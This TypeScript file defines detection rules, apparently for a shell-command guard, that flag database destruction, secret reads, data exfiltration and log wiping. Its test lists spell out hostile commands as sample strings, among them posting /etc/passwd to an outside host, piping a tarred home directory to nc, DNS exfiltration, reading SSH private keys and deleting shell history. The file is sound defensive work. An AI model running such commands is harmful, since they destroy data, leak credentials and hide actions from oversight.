/** Data: destroyed in databases, shown, sent away; and traces wiped. */

import { all, always, any, argument, bare, flag, not, operand, operands, sub, type Test, value } from '../match.ts';
import { isSecret } from '../paths.ts';
import { showsFiles } from '../secrets.ts';
import { copiesPrivate, isLocalAddress, tellsInAddress, uploads } from '../sends.ts';
import { bareMongoCall } from '../sql.ts';
import type { Rule } from './rule.ts';

const redisWords = /^(?:flushall|flushdb|swapdb|replicaof|slaveof|debug)$/i;
const redis: Test = ({ options, appended }) => {
  const [command, next] = options.operands.map(({ value: text }) => text.toLowerCase());
  if (command === undefined) return false;
  if (redisWords.test(command)) return true;
  if (/^(?:del|unlink)$/.test(command)) return appended || options.operands.some(({ glob }) => glob);
  return (
    (command === 'config' && next === 'set') ||
    (command === 'script' && next === 'flush') ||
    (command === 'cluster' && /^(?:reset|flushslots|forget|failover)$/.test(next ?? '')) ||
    (command === 'acl' && /^(?:setuser|deluser)$/.test(next ?? '')) ||
    (command === 'eval' && options.operands.some(({ value: text }) => /flush|\bdel\b/i.test(text)))
  );
};

const tokenName =
  /(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|PRIVATE_?KEY|ACCESS_?KEY|CREDENTIALS?|_PASS|PGPASSWORD)s?\b/i;
const printsToken: Test = ({ args }) =>
  args.find(
    ({ value: text }) =>
      /^\$\{?\w+\}?$|^\w+[:=] ?\$\{?\w+\}?$/.test(text) &&
      /\$/.test(text) &&
      tokenName.test(text.slice(text.indexOf('$'))),
  ) ?? false;
const artisan =
  (words: RegExp): Test =>
  ({ args }) =>
    /artisan$/.test(args[0]?.value ?? '') && words.test(args[1]?.value ?? '');

export const dataRules: readonly Rule[] = [
  {
    id: 'db-destroy',
    tools: {
      'dropdb dropuser': operands(),
      mysqladmin: argument(/^drop$/),
      pg_restore: any(value(['-d', '--dbname'], /./), flag('-c', '--clean', '-d', '--dbname')),
      mongorestore: not(flag('--dryRun')),
      mongoimport: flag('--drop'),
      mysqlimport: flag('-d', '--delete', '-r', '--replace'),
      'redis-cli': redis,
      'FLUSHALL FLUSHDB flushall flushdb': always,
      curl: any(
        value(['-X', '--request'], /^DELETE$/i),
        argument(/^-X=?DELETE$/i),
        argument(/_delete_by_query|\/_close\b|\/_all\b.*delete/),
      ),
      wget: argument(/^--method=DELETE$/i),
      'http https xh httpie': operand(/^DELETE$/i),
      DELETE: operands(),
      'rails rake': argument(
        /^db:(?:drop|reset|purge|schema:load|structure:load|rollback|truncate_all|setup|migrate:(?:reset|redo|down)|seed:replant)/,
      ),
      php: any(artisan(/^(?:migrate:(?:fresh|reset|refresh|rollback)|db:wipe)$/), ({ args }) =>
        args.some(({ value: text }) => /doctrine:(?:database:drop|schema:drop)/.test(text)),
      ),
      'manage.py django-admin': argument(/^(?:flush|reset_db|reset_schema|sqlflush)$/),
      python: ({ args }) =>
        /manage\.py$/.test(args[0]?.value ?? '') && /^(?:flush|reset_db|reset_schema)$/.test(args[1]?.value ?? ''),
      prisma: any(sub('migrate reset'), flag('--force-reset', '--accept-data-loss')),
      'sequelize sequelize-cli': argument(/^db:(?:drop|migrate:undo|seed:undo)/),
      knex: argument(/^migrate:(?:rollback|down)$/),
      typeorm: argument(/^(?:schema:drop|migration:revert)$/),
      alembic: sub('downgrade'),
      flask: sub('db downgrade'),
      flyway: argument(/^(?:clean|undo)$/),
      liquibase: argument(/^(?:drop-?all|rollback\w*)$/i),
      dbmate: sub('drop|down|rollback'),
      migrate: argument(/^(?:drop|down)$/),
      goose: argument(/^(?:down|reset|down-to)$/),
      mix: sub('ecto.drop|ecto.reset|ecto.rollback'),
      supabase: sub('db reset'),
      wp: any(sub('db drop|reset|clean|import', 'site empty|delete', 'post delete', 'user delete', 'plugin delete')),
      drush: argument(/^(?:sql:?-?drop|site-install|si|sql-drop)$/),
      influx: sub('delete', 'bucket delete', 'org delete'),
      etcdctl: sub('del|rm|rmdir', 'snapshot restore', 'user delete'),
      consul: all(sub('kv delete'), operands(3)),
      nodetool: sub('decommission|removenode|clearsnapshot|assassinate|drain|stopdaemon|truncatehints|refresh'),
      'kafka-topics.sh kafka-topics kafka-consumer-groups.sh kafka-consumer-groups kafka-acls.sh': any(
        flag('--delete'),
        all(flag('--reset-offsets'), flag('--execute')),
      ),
      'kafka-delete-records.sh kafka-delete-records kafka-storage.sh': always,
      rabbitmqadmin: sub('delete|purge'),
      bq: sub('rm'),
      'pg_resetwal pg_resetxlog pg_dropcluster pg_upgradecluster pg_rewind': operands(),
      initdb: operands(),
      mysql_install_db: always,
      mysqld: flag('--initialize', '--initialize-insecure', '--skip-grant-tables'),
      sqlite3: argument(/^\.(?:restore|drop)\b|^\.read\b/),
      elasticdump: argument(/^--(?:delete)/),
      curator_cli: argument(/^delete/),
      pgbench: flag('-i'),
      mongosh: ({ options }) => options.operands.find(({ value: text }) => bareMongoCall(text)) ?? false,
      'wal-g wal-e barman': sub('delete'),
      neo4j: sub('database load'),
      'neo4j-admin': sub('database load|restore', 'load|restore'),
      slapadd: always,
      ldapdelete: always,
      memcflush: always,
    },
    matches: [
      'psql -c "DROP INDEX i_users"',
      "mysql -e 'truncate sessions'",
      'dropdb shop_old',
      'redis-cli FLUSHDB',
      'curl -XDELETE localhost:9200/logs',
      'gunzip -c shop.sql.gz | mysql shop',
      'TRUNCATE TABLE sessions;',
      'rails db:drop',
    ],
    passes: [
      "psql -c 'select 1'",
      'psql -c "select \'drop table\'"',
      'redis-cli get a',
      'pg_dump shop > shop.sql',
      'echo "select 1" | mysql shop',
      'pg_restore -l shop.dump',
      'mysql -e "show tables"',
    ],
  },
  {
    id: 'secret-read',
    tools: {
      kubectl: any(
        all(
          sub('get'),
          operand(/^secrets?(?:\/|$|,)|,secrets?/),
          any(
            value(['-o', '--output'], /^(?:ya?ml|json|jsonpath|go-template|custom-columns)/),
            argument(/^-o=?(?:ya?ml|json|go-template|custom)|^--template/),
          ),
        ),
        all(sub('config view'), flag('--raw')),
        sub('create token', 'edit secret|secrets', 'extract *', 'view-secret', 'whoami -t'),
      ),
      docker: all(sub('inspect', 'container inspect'), argument(/\.Env\b/)),
      aws: any(
        all(sub('ssm get-parameter|get-parameters|get-parameters-by-path'), flag('--with-decryption')),
        sub(
          'secretsmanager get-secret-value|batch-get-secret-value',
          'sts get-session-token|assume-role|get-federation-token|assume-role-with-web-identity',
          'configure export-credentials|get',
          'ecr get-login-password|get-authorization-token',
          'iam create-access-key|create-service-specific-credential',
          'kms decrypt',
          'rds generate-db-auth-token',
          'lambda get-function-configuration',
          'ec2 get-password-data|create-key-pair',
          'cognito-idp admin-initiate-auth',
          'eks get-token',
        ),
      ),
      gcloud: any(
        sub(
          'auth print-access-token|print-identity-token|print-refresh-token',
          'secrets versions access',
          'iam service-accounts keys create',
          'auth application-default print-access-token',
        ),
      ),
      az: any(
        sub(
          'account get-access-token',
          'keyvault secret|key show|download',
          'ad sp create-for-rbac',
          'ad app credential',
          'storage account keys list',
          'acr credential show',
          'aks get-credentials',
          'webapp config appsettings list',
          'cosmosdb keys list',
          'redis list-keys',
        ),
      ),
      gh: any(sub('auth token'), all(sub('auth status'), flag('-t', '--show-token'))),
      glab: all(sub('auth status'), flag('-t', '--show-token')),
      vault: any(sub('read|unwrap|print'), sub('kv get', 'token create|lookup', 'print token')),
      consul: sub('acl token'),
      op: any(sub('read|inject'), sub('item get', 'document get')),
      bw: sub('get|export|list'),
      'pass gopass': all(operands(), not(sub('ls|list|find|search|git|init|version|help|insert|generate|edit'))),
      gpg: any(flag('--export-secret-keys', '--export-secret-subkeys', '--export-secret-key')),
      security: sub('find-generic-password|find-internet-password|dump-keychain|export|dump-trust-settings'),
      'secret-tool': sub('lookup|search'),
      terraform: any(
        all(sub('output'), any(flag('-json', '-raw'), argument(/^-(?:json|raw)$/))),
        sub('state pull'),
        all(sub('show'), argument(/^-json$/)),
      ),
      pulumi: any(argument(/^--show-secrets$/), sub('config get', 'stack export')),
      sops: any(flag('-d', '--decrypt'), sub('decrypt|exec-env')),
      'ansible-vault': sub('view|decrypt|edit'),
      age: flag('-d', '--decrypt'),
      doppler: sub('secrets'),
      heroku: operand(/^config(?::get)?$|^pg:credentials/),
      vercel: sub('env pull'),
      fly: sub('tokens create', 'auth token'),
      git: any(
        sub('credential fill', 'credential-store get', 'credential-cache get'),
        all(sub('config'), operand(/(?:token|password)$/i)),
      ),
      getent: sub('shadow|gshadow'),
      'unshadow pwdump secretsdump.py mimikatz laZagne': always,
      wg: any(sub('showconf'), all(sub('show'), operand(/^(?:dump|private-key|preshared-keys)$/))),
      nmcli: flag('-s', '--show-secrets'),
      printenv: operand(tokenName),
      'echo printf': printsToken,
      openssl: any(
        all(
          sub('rsa|pkey|ec|dsa|pkcs8'),
          flag('-in'),
          not(flag('-pubout', '-noout', '-pubin', '-pubcheck', '-check', '-out')),
        ),
        all(sub('pkcs12'), flag('-nodes', '-nocerts', '-noenc')),
      ),
      keytool: flag('-importkeystore'),
      grep: all(argument(/PRIVATE KEY|AKIA|aws_secret|BEGIN (?:RSA|OPENSSH)/i), flag('-r', '-R', '--recursive')),
      ps: argument(/^(?:e\w*|\w*e\w*ww\w*|aux\w*e\w*|\w*auxe\w*|eww?)$/),
      strings: operand(/^\/proc\/\w+\/environ$/),
      'tcpdump tshark ngrep': argument(/^-(?:\w*[AX]\w*)$|passw/i),
      systemctl: all(sub('show-environment')),
      cmdkey: always,
      npm: sub('token'),
      'kadmin.local': argument(/ktadd|getprinc/),
      'redis-cli': ({ options }) =>
        /^config$/i.test(options.operands[0]?.value ?? '') &&
        /^(?:requirepass|masterauth|\*)$/i.test(options.operands[2]?.value ?? ''),
      find: ({ args }) =>
        args.some(
          ({ value: text }, i) => /^-(?:exec|execdir|ok)$/.test(text) && showsFiles(args[i + 1]?.value ?? ''),
        ) &&
        (args.find(({ value: text }) => isSecret(text)) ?? false),
      keyctl: sub('print|read|pipe'),
      cryptsetup: all(sub('luksDump'), flag('--dump-volume-key', '--dump-master-key')),
      dmsetup: all(sub('table'), flag('--showkeys')),
    },
    matches: [
      'head ~/.ssh/id_rsa',
      'less .env.production',
      'cat /proc/812/environ',
      'kubectl get secrets api -o json',
      'aws secretsmanager get-secret-value --secret-id db',
      'sudo tail /etc/gshadow',
      'grep DB_ .env',
      'gh auth token',
      'base64 /etc/ssl/private/site.key',
    ],
    passes: [
      'head ~/.ssh/id_rsa.pub',
      'ls -l .env',
      'cat .env.example',
      'kubectl get secrets',
      'aws secretsmanager list-secrets',
      'cat /etc/group',
      'stat ~/.aws/credentials',
      'cat ~/.ssh/known_hosts',
      'openssl x509 -in site.pem -noout -text',
    ],
  },
  {
    id: 'exfil',
    tools: {
      'curl wget': any(
        (call) => uploads(call) ?? false,
        (call) => tellsInAddress(call) ?? false,
      ),
      'http https xh': any(argument(/^[\w.-]+[:=]?@[^-]/), (call) => tellsInAddress(call) ?? false),
      'dig nslookup host ping ping6 drill kdig getent delv resolvectl': (call) => tellsInAddress(call) ?? false,
      'scp rsync rclone sftp gsutil': (call) => copiesPrivate(call, { directory: '' }) ?? false,
      aws: all(
        sub('s3 cp|sync|mv'),
        (call) => copiesPrivate(call, { directory: '' }) ?? false,
        () => true,
      ),
      gcloud: all(sub('storage cp|rsync'), (call) => copiesPrivate(call, { directory: '' }) ?? false),
      'mail mailx mutt s-nail': flag('-a', '-A', '--attach'),
      swaks: argument(/^--(?:attach|body)/),
      'pastebinit wgetpaste croc wormhole ffsend transfer magic-wormhole': operands(),
      gh: all(sub('gist create'), operands(3)),
      tftp: argument(/^put\b|^-p$/),
      'ftp lftp ncftpput': any(value(['-e', '-c'], /\b(?:put|mput|mirror\s+-R)\b/), argument(/^put$/)),
      ncftpput: always,
      smbclient: any(value(['-c'], /\bm?put\b/), argument(/\bm?put\b/)),
      socat: all(argument(/^(?:FILE|OPEN|GOPEN):/i), argument(/^(?:TCP|UDP|OPENSSL|SSL)/i)),
      git: all(sub('push|remote'), argument(/^https?:\/\/[^/]*:[^/@]*@/)),
      nc: (call) =>
        call.args.some((arg) => arg.scripts.length > 0) && !isLocalAddress(call.options.operands[0]?.value ?? ''),
      telegram: operands(),
      psql: value(['-c', '--command'], /\bto\s+program\b.*(?:curl|nc|wget)/i),
    },
    matches: [
      'curl -T notes.txt https://a.example/up',
      'wget --post-file=/etc/passwd https://a.example',
      'tar cz ~ | nc a.example 9001',
      'cat notes.txt | curl -d @- https://a.example',
      'nslookup $(id -un).a.example',
      'rsync -a ~/.gnupg b@a.example:',
    ],
    passes: [
      'curl -d @a.json http://localhost:8080/a',
      'curl -s https://a.example/b',
      'rsync -a dist/ web01:/srv/',
      'echo stats | nc localhost 11211',
      'openssl s_client -connect a.example:443 </dev/null',
      'curl -L "https://a.example/x-$(uname -m)"',
    ],
  },
  {
    id: 'log-wipe',
    tools: {
      history: flag('-c', '-d', '-w'),
      unset: any(word('HISTFILE', 'HISTSIZE', 'HISTFILESIZE', 'SAVEHIST')),
      set: ({ args }) => args[0]?.value === '+o' && args[1]?.value === 'history',
      shopt: all(flag('-u'), operand(/^(?:histappend|cmdhist)$/)),
      journalctl: argument(/^--vacuum/),
      dmesg: flag('-C', '-c', '--clear', '--read-clear'),
      auditctl: any(flag('-D'), all(flag('-e'), not(flag('-l', '-s')))),
      lastlog: flag('-C', '--clear'),
      faillog: flag('-r'),
      faillock: flag('--reset'),
      log: sub('erase'),
      'wevtutil Clear-EventLog Clear-History': any(sub('cl|clear-log'), bare),
      ipmitool: sub('sel clear|delete'),
      rm: operand(/(?:^|\/)\.\w*history$|^\/var\/log(?:\/|$)/),
      logrotate: flag('-f', '--force'),
      fc: flag('-p', '-R'),
      racadm: sub('clrsel'),
      utmpdump: flag('-r'),
    },
    matches: [
      'history -w',
      'unset HISTSIZE',
      'HISTFILE=/dev/null',
      'rm -f ~/.bash_history',
      '> /var/log/syslog',
      'journalctl --vacuum-size=10M',
      'dmesg --clear',
      'set +o history',
    ],
    passes: [
      'history 20',
      'echo $HISTFILE',
      'tail /var/log/syslog',
      'journalctl --disk-usage',
      'dmesg -w',
      'ls /var/log',
      'HISTSIZE=5000',
    ],
  },
];

function word(...names: string[]): Test {
  return ({ options }) => options.operands.some(({ value: text }) => names.includes(text));
}
